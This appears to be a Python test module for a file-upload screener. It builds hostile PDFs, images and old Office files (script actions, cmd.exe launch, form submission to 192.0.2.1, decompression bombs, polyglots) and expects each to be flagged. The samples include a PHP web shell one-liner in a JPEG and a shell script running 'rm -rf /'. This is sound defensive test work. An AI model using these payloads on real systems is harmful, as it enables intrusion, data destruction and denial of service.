"""PDF files, pictures, old binary files and things that are no documents at all."""

import io
import struct
import zlib

import pypdf

from tests.foundation.screening.hostile.cases import Cases
from tests.foundation.screening.ordinary import (
    BOOK_STREAM,
    WORD_STREAM,
    compound,
    old_sheet,
    old_word,
    package,
    pdf,
    picture,
    stream,
    word,
)


def locked_pdf():
    """A PDF that asks for a password."""
    writer = pypdf.PdfWriter(io.BytesIO(pdf()))
    writer.encrypt("secret", algorithm="AES-256")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def hidden_in_object_stream():
    """A script inside a compressed object stream: only whoever unpacks it sees it."""
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    writer = pypdf.PdfWriter(io.BytesIO(pdf()))
    target = io.BytesIO()
    writer.write(target)
    plain = target.getvalue()
    packed = stream(b"90 0 " + script, "/Type /ObjStm /N 1 /First 5")
    place = len(plain)
    table = struct.pack(">BIH", 1, place, 0) + struct.pack(">BIH", 2, 80, 0)
    previous = int(plain.rpartition(b"startxref")[2].split()[0])
    root = writer.root_object.indirect_reference
    assert root
    body = plain + b"80 0 obj\n" + packed + b"\nendobj\n"
    entries = f"/Type /XRef /Size 91 /Root {root.idnum} 0 R /Prev {previous} /W [1 4 2] /Index [80 1 90 1]"
    return body + b"81 0 obj\n" + stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def png(width, height, data=b""):
    """A PNG that promises a size."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data or zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def flood(width=30_000, height=30_000, rows=200):
    """A small PNG that promises to unpack to 2.7 GB, and does so as far as it has rows."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 3 * width)
    return png(width, height, b"".join(packer.compress(row) for _ in range(rows)) + packer.flush())


def huge_jpeg():
    """A JPEG whose header promises 65,000 by 65,000 points."""
    data = bytearray(picture("JPEG"))
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", 65_000, 65_000)
    return bytes(data)


def acting(action):
    """A PDF that does something when it is opened."""
    return pdf(catalog=f"/OpenAction << /Type /Action {action} >>")


def endless_pages():
    """A tree of pages that holds itself."""
    return pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def bomb_in_pdf():
    """A content stream of 300 MB in few bytes."""
    body = zlib.compress(bytes(300 << 20), 9)
    return pdf(
        extra=[f"<< /Filter /FlateDecode /Length {len(body)} >>\nstream\n".encode() + body + b"\nendstream"]
    ).replace(b"/Contents 4 0 R", b"/Contents 8 0 R")


PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
WITH_FILE = "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /EF << /F 8 0 R >> >>] >> >>"
LOCKED_WORD = WORD_STREAM[:11] + b"\x01" + WORD_STREAM[12:]
LOCKED_BOOK = BOOK_STREAM[:20] + b"\x2f\x00\x36\x00" + bytes(54)
MACRO_BOOK = BOOK_STREAM[:20] + b"\x85\x00\x0a\x00" + struct.pack("<I", 99) + b"\x00\x01" + b"\x02\x00ab"

CASES: Cases = {
    "a script in a PDF": ("pdf", lambda: acting("/S /JavaScript /JS (app.alert(1))"), "active_content"),
    "a script with a veiled name": ("pdf", lambda: acting("/S /Java#53cript /J#53 (app.alert(1))"), "active_content"),
    "a script in a packed object": ("pdf", hidden_in_object_stream, "active_content"),
    "a script that no table names": (
        "pdf",
        lambda: pdf().replace(b"xref\n0", b"99 0 obj << /S /JavaScript /JS (x) >> endobj\nxref\n0", 1),
        "active_content",
    ),
    "a PDF that starts a program": ("pdf", lambda: acting("/S /Launch /F (cmd.exe)"), "active_content"),
    "a PDF that sends a form": ("pdf", lambda: acting("/S /SubmitForm /F (http://192.0.2.1/)"), "active_content"),
    "a PDF with an XFA form": (
        "pdf",
        lambda: pdf(catalog="/AcroForm << /XFA 8 0 R >>", extra=["<< >>"]),
        "active_content",
    ),
    "a PDF with rich media": ("pdf", lambda: pdf(catalog="/X << /Subtype /RichMedia >>"), "active_content"),
    "a PDF with a file inside": (
        "pdf",
        lambda: pdf(catalog=WITH_FILE, extra=[stream(b"MZ", "/Type /EmbeddedFile")]),
        "embedded_file",
    ),
    "a PDF that opens another": ("pdf", lambda: acting("/S /GoToR /F (//192.0.2.1/a.pdf)"), "external_link"),
    "a locked PDF": ("pdf", locked_pdf, "encrypted"),
    "half a PDF": ("pdf", lambda: pdf()[:400], "unreadable"),
    "a PDF without pages": ("pdf", lambda: b"%PDF-1.7\n%%EOF\n", "unreadable"),
    "pages without end": ("pdf", endless_pages, ("unreadable", "too_complex")),
    "a bomb in a PDF": ("pdf", bomb_in_pdf, ("unreadable", "too_complex")),
    "a PDF that is a zip too": ("pdf", lambda: pdf() + package({"a.html": PAGE}) + b"%%EOF", "polyglot"),
    "a PDF that is a page too": ("pdf", lambda: pdf(extra=["(" + PAGE.decode() + ")"]), "polyglot"),
    "much behind a PDF": ("pdf", lambda: pdf() + bytes(5000), "polyglot"),
    "a PDF behind a page": ("pdf", lambda: PAGE + pdf(), "wrong_content"),
    "a flood of pixels": ("png", flood, "image_too_large"),
    "a JPEG of 4 billion pixels": ("jpg", huge_jpeg, "image_too_large"),
    "a PNG that is a page": ("png", lambda: picture() + PAGE, "polyglot"),
    "a PNG with a page inside": (
        "png",
        lambda: picture().replace(b"IDAT", b"IDAT", 1)[:33] + b"\x00\x00\x00\x35tEXt" + PAGE + picture()[33:],
        "polyglot",
    ),
    "a PNG that is a zip": ("png", lambda: picture() + package({"a": "b"}), "polyglot"),
    "a JPEG that is a zip": ("jpg", lambda: picture("JPEG") + package({"a": "b"}), "polyglot"),
    "a JPEG that is a page": ("jpg", lambda: picture("JPEG") + b"<?php system($_GET[0]); ?>", "polyglot"),
    "half a PNG": ("png", lambda: picture(size=(640, 480))[:900], "unreadable"),
    "a PNG with nothing in it": ("png", lambda: png(100, 100), "unreadable"),
    "a PNG called jpg": ("jpg", picture, "wrong_content"),
    "a GIF called png": ("png", lambda: b"GIF89a" + bytes(50), "wrong_content"),
    "a drawing with a script": ("svg", lambda: SVG, "wrong_type"),
    "a drawing called png": ("png", lambda: SVG, "wrong_content"),
    "a page": ("html", lambda: PAGE, "wrong_type"),
    "a page called pdf": ("pdf", lambda: PAGE, "wrong_content"),
    "a program": ("exe", lambda: b"MZ" + bytes(200), "executable"),
    "a program called pdf": ("pdf", lambda: b"MZ" + bytes(200), "executable"),
    "a program of Linux": ("docx", lambda: b"\x7fELF" + bytes(200), "executable"),
    "a script of the shell": ("pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "executable"),
    "a shortcut": ("lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), "executable"),
    "a batch": ("bat", lambda: b"@echo off\r\n", "wrong_type"),
    "a plain zip": ("zip", lambda: package({"a": "b"}), "wrong_type"),
    "a docm": ("docm", word, "wrong_type"),
    "an rtf": ("rtf", lambda: b"{\\rtf1\\object\\objdata 00}", "wrong_type"),
    "nothing": ("pdf", lambda: b"", "empty"),
    "no ending": ("", word, "wrong_type"),
    "macros in an old file": ("doc", lambda: old_word(Macros=b"", VBA=b""), "macro"),
    "macros in an old sheet": ("xls", lambda: old_sheet(_VBA_PROJECT_CUR=b""), "macro"),
    "an old sheet of macros": ("xls", lambda: old_sheet(MACRO_BOOK), "macro"),
    "an object in an old file": ("doc", lambda: old_word(ObjectPool=b""), "embedded_object"),
    "a program in an old file": (
        "wps",
        lambda: compound({"WordDocument": WORD_STREAM, "\x01Ole10Native": b"MZ"}),
        "embedded_object",
    ),
    "a locked old file": ("doc", lambda: compound({"WordDocument": LOCKED_WORD}), "encrypted"),
    "a locked old sheet": ("xls", lambda: old_sheet(LOCKED_BOOK), "encrypted"),
    "an old sheet called doc": ("doc", old_sheet, "wrong_content"),
    "an installer called doc": ("doc", lambda: compound({"Property": b"x"}), "wrong_content"),
}
